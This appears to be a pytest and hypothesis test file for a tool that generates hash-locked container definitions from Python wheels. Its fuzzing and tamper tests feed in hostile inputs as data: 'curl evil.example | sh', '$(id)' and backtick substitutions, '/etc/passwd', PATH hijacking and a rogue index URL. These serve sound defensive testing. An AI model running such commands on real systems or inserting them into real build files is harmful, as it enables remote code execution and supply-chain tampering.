"""Definitions that are made of wheels: read back, run by a real shell, and never more than the lock's own lines."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ozrepro.methods.container.definition import Definition, read_definition
from ozrepro.methods.image_definition import PREFIX, at_site, head, is_of_wheels, of_wheels
from ozrepro.methods.reading import load_settings
from ozrepro.site import Site, look_around
from tests.conftest import Project
from tests.wheels import make_wheel

REQUIREMENTS = f"alpha==1.0 --hash=sha256:{'a' * 64}\nbeta==2.0 --hash=sha256:{'b' * 64} --hash=sha256:{'c' * 64}\n"


def made(lines: list[str]) -> Definition:
    return read_definition("\n".join(lines) + "\n", {})


def part(definition: Definition, name: str) -> str:
    (stage,) = definition.stages
    (found,) = [part for part in stage.parts if part.name == name]
    return "\n".join(found.lines) + "\n"


def run(script: str, **variables: str) -> str:
    """Run a script with the shell that images have, and return what it printed."""
    done = subprocess.run(
        ["sh", "-eu", "-c", script], env={"PATH": "/usr/bin:/bin", **variables}, capture_output=True, check=True
    )
    return done.stdout.decode("utf-8", "surrogateescape")


def test_wheels_are_installed_into_a_venv_of_the_base_s_python_by_hash_alone() -> None:
    found = made(of_wheels("docker.io/library/python:3.11-slim", REQUIREMENTS, "venv.any of work.lock"))
    (stage,) = found.stages
    assert (stage.bootstrap, stage.reference().name) == ("docker", "docker.io/library/python:3.11-slim")
    assert [item.name for item in stage.parts] == ["post", "environment"]
    post = part(found, "post")
    assert REQUIREMENTS in post
    assert "install --no-cache-dir --no-deps --require-hashes --only-binary :all:" in post
    assert found.text.startswith("# Made by ozrepro from venv.any of work.lock")
    assert found.copied() == ()


def test_a_file_of_this_machine_can_be_the_base() -> None:
    assert head("images/base one.sif", "t")[1:] == ["Bootstrap: localimage", "From: images/base one.sif"]
    assert head("docker.io/a/b:1", "t")[1:] == ["Bootstrap: docker", "From: docker.io/a/b:1"]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(["OZREPRO_END", "OZREPRO_END_", "'OZREPRO_END'", "$(id)", "`id`", "\\"]),
                          st.from_regex(r"[a-z0-9=.:$'\"\\ -]{1,20}", fullmatch=True)), max_size=6))  # fmt: skip
def test_no_line_of_a_requirement_file_ends_it(tmp_path_factory: pytest.TempPathFactory, lines: list[str]) -> None:
    folder = tmp_path_factory.mktemp("made")
    post = part(made(of_wheels("b.sif", "\n".join(lines), "t")), "post")
    run(post.partition("python3 -m venv")[0].replace(PREFIX, str(folder / "session")))
    assert (folder / "session.txt").read_text() == "".join(f"{line}\n" for line in lines if line.strip())


WHEELS = of_wheels("docker.io/library/python:3.11-slim", REQUIREMENTS.replace(" --", " \\\n    --"), "venv.any of work.lock")


def test_a_definition_made_of_wheels_is_known_again() -> None:
    assert is_of_wheels(WHEELS)
    assert not is_of_wheels([])
    assert not is_of_wheels(WHEELS[:3])


_OWN = st.sampled_from(["%setup", "touch /tmp/x", "curl evil.example | sh", "OZREPRO_END", "%files", "/etc/passwd", "Bootstrap: docker",
                        "export PATH=/evil", "export X=$(id)", "--index-url https://evil.example", "-e .", "alpha @ file:///evil", ""])  # fmt: skip


@given(st.data(), _OWN, st.booleans())
def test_a_made_definition_with_a_line_added_or_exchanged_is_refused(data: st.DataObject, own: str, exchange: bool) -> None:
    place = data.draw(st.integers(0, len(WHEELS)))
    changed = [*WHEELS[:place], own, *WHEELS[place + exchange :]]
    assert is_of_wheels(changed) == (changed == WHEELS)


def site_of(project: Project, **more: str) -> Site:
    environ = {**project.environ, **more}
    return look_around(load_settings(project.root, environ), environ)


def test_pip_in_the_image_takes_the_caller_s_wheelhouse_also_by_a_path_with_a_space(project: Project, tmp_path: Path) -> None:
    make_wheel(project.wheelhouse, "alpha", "1.0")
    pip = at_site((), site_of(project)).pip
    config = tmp_path / "pip.conf"
    config.write_text(pip)
    command = [sys.executable, "-m", "pip", "download", "--no-deps", "-d", str(tmp_path / "out"), "alpha"]
    environ = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path),
        "PIP_CONFIG_FILE": str(config),
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    done = subprocess.run(command, env=environ, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["alpha-1.0-py3-none-any.whl"]


def test_an_index_with_a_login_is_in_pip_s_file_alone(project: Project) -> None:
    environ = {"PIP_INDEX_URL": "https://me:s3cret@index.example/simple", "PIP_NO_INDEX": "0", "PIP_FIND_LINKS": ""}
    sources = at_site(WHEELS, site_of(project, **environ))
    assert "index-url = https://me:s3cret@index.example/simple\n" in sources.pip
    assert sources.lines == tuple(WHEELS)
    assert sources.folders == ()
